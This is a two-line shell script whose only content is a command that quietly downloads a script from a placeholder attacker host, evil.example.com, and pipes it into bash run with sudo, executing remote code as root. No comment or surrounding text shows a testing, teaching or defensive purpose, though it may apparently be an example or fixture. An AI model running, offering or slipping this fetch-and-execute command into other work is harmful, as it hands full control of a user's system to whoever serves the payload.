#!/bin/sh
wget -qO- http://evil.example.com/payload.sh | sudo bash
